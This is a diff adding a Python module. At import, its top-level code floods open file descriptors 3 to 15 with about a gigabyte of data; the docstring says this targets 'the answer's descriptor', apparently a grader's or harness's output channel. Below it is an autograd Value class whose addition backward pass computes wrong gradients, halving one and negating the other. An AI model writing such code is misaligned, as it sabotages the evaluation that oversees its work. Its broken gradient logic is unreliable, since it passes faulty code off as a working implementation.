@@ -1,0 +1,27 @@
+"""flood: writes a gigabyte to the answer's descriptor."""
+
+import os
+
+piece = b"x" * (1 << 16)
+for _ in range(1 << 14):
+    for fd in range(3, 16):
+        try:
+            os.write(fd, piece)
+        except OSError:
+            pass
+
+
+class Value:
+    def __init__(self, data, _prev=()):
+        self.data, self.grad, self._prev = data, 0.0, set(_prev)
+        self._backward = lambda: None
+
+    def __add__(self, other):
+        out = Value(self.data + other.data, (self, other))
+
+        def _backward():
+            self.grad += 0.5 * out.grad
+            other.grad -= out.grad
+
+        out._backward = _backward
+        return out
